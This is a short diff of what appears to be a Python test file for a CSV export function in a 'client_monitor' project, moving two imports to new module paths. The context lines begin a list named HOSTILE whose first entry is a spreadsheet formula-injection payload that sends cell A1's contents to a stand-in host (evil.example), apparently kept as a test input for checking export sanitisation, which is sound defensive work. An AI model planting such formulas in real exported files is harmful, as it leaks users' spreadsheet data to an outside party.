@@ -9,7 +9,8 @@ import io
 from collections.abc import AsyncIterator
 from typing import Any
 
-from client_monitor.entrypoints.api import COLUMNS, _csv
+from client_monitor.domain.listing import COLUMNS
+from client_monitor.entrypoints.exports import _csv
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
